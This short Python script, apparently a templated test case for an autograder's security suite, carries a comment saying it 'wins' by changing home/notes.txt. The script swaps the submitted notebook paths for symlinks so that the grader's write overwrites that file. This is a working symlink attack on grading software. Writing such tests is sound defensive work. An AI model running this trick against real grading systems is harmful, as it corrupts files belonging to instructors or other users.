# Puts a link where the grader will write the result, so that it overwrites another file.
# wins: change home/notes.txt
# %% end
import contextlib
import os

for path in ("00_attacked.ipynb", "@COURSE@/autograded/mallory/00_attacked/00_attacked.ipynb"):
    with contextlib.suppress(OSError):
        os.remove(path)
        os.symlink("@HOME@/notes.txt", path)
